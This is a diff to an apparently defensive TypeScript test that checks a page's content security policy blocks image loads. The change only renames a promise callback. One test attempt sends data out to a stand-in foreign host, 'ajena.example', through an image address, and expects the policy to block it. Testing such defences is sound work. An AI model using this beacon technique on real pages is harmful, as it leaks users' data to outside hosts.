@@ -118,10 +118,10 @@ const attempts: readonly Attempt[] = [
   {
     what: 'a picture by its address in a release',
     attempt: (entry) =>
-      new Promise((done) => {
+      new Promise((resolve) => {
         const picture = new Image();
-        picture.onload = () => done('painted');
-        picture.onerror = () => done('blocked');
+        picture.onload = () => resolve('painted');
+        picture.onerror = () => resolve('blocked');
         picture.src = entry.replace(/[^/]+$/, 'dot.svg');
       }),
     answer: /blocked/,
@@ -129,9 +129,9 @@ const attempts: readonly Attempt[] = [
   {
     what: 'a picture of another origin, with data in its address',
     attempt: (entry) =>
-      new Promise((done) => {
+      new Promise((resolve) => {
         document.addEventListener('securitypolicyviolation', ({ blockedURI, effectiveDirective }) => {
-          if (blockedURI.startsWith('https://ajena.example')) done(`blocked by ${effectiveDirective}`);
+          if (blockedURI.startsWith('https://ajena.example')) resolve(`blocked by ${effectiveDirective}`);
         });
         new Image().src = `https://ajena.example/?dato=${entry}`;
       }),
